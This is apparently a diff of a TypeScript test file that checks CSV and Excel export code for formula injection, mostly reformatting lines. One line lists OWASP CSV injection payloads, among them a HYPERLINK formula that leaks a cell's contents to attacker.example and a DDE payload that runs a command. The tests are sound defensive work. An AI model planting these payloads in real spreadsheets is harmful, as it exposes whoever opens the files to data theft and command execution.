@@ -1,9 +1,7 @@
 import ExcelJS from 'exceljs';
-import { readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { renderTemplates } from '../src/model/render-templates.js';
 import { parseTemplates } from '../src/model/parse-templates.js';
+import { renderTemplates } from '../src/model/render-templates.js';
 import { evaluateComparison } from '../src/options/compare-options.js';
 import { buildWorkbook } from '../src/output/build-workbook.js';
 import { detailsCsv, summaryCsv } from '../src/output/comparison-csv.js';
@@ -13,7 +11,15 @@ import { reference } from './reference.js';
 import { shipped } from './shipped.js';
 
 // OWASP CSV injection payloads
-const PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '+1+1',
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('no formula injection: text from inputs is neutralised in CSV and stays text in the workbook', () => {
   it('CSV cells that start like a formula get a leading apostrophe; numbers, negatives included, do not', () => {
@@ -32,16 +38,27 @@ describe('no formula injection: text from inputs is neutralised in CSV and stays
       };
       const evaluated = evaluateComparison(inputs, reference);
       const summary = summaryCsv(evaluated.comparison);
-      expect(summary.split('\r\n')[1]!.startsWith(csvText([[evaluated.comparison.scenario.name]]).trimEnd())).toBe(true);
-      expect(csvText([[evaluated.comparison.scenario.name]]).replace(/^"/, '').startsWith("'")).toBe(true);
+      expect(summary.split('\r\n')[1]!.startsWith(csvText([[evaluated.comparison.scenario.name]]).trimEnd())).toBe(
+        true,
+      );
+      expect(
+        csvText([[evaluated.comparison.scenario.name]])
+          .replace(/^"/, '')
+          .startsWith("'"),
+      ).toBe(true);
       for (const line of [...summary.split('\r\n'), ...detailsCsv(evaluated.comparison).split('\r\n')]) {
-        for (const cell of line.split(',')) expect(/^"?[=+@\t\r]/.test(cell) || /^"?-[^\d]/.test(cell), cell).toBe(false);
+        for (const cell of line.split(','))
+          expect(/^"?[=+@\t\r]/.test(cell) || /^"?-[^\d]/.test(cell), cell).toBe(false);
       }
       const workbook = new ExcelJS.Workbook();
       await workbook.xlsx.load((await writeXlsx(buildWorkbook(evaluated, reference))) as unknown as ExcelJS.Buffer);
       const inputsSheet = workbook.getWorksheet('Inputs')!;
       const texts: ExcelJS.Cell[] = [];
-      inputsSheet.eachRow((row) => row.eachCell((cell) => { if (typeof cell.value === 'string' && cell.value.includes(payload.trim().slice(1, 6))) texts.push(cell); }));
+      inputsSheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (typeof cell.value === 'string' && cell.value.includes(payload.trim().slice(1, 6))) texts.push(cell);
+        }),
+      );
       expect(texts.length).toBeGreaterThanOrEqual(1 + 2 * shipped.tiers.length);
       for (const cell of texts) {
         expect(cell.type, cell.address).toBe(ExcelJS.ValueType.String);
@@ -55,7 +72,15 @@ describe('no formula injection: text from inputs is neutralised in CSV and stays
     const texts = renderTemplates(inputs, reference);
     expect(texts['mailbox-tiers.csv']).toContain(`"'=HYPERLINK(""x"")"`);
     const file = (name: keyof typeof texts) => ({ file: name, text: texts[name] });
-    const back = parseTemplates({ scenario: file('scenario.csv'), tiers: file('mailbox-tiers.csv'), workloads: file('workloads.csv'), prices: file('prices.csv') }, reference);
+    const back = parseTemplates(
+      {
+        scenario: file('scenario.csv'),
+        tiers: file('mailbox-tiers.csv'),
+        workloads: file('workloads.csv'),
+        prices: file('prices.csv'),
+      },
+      reference,
+    );
     expect(back.tiers[0]!.tier).toBe('=HYPERLINK("x")');
   });
 });
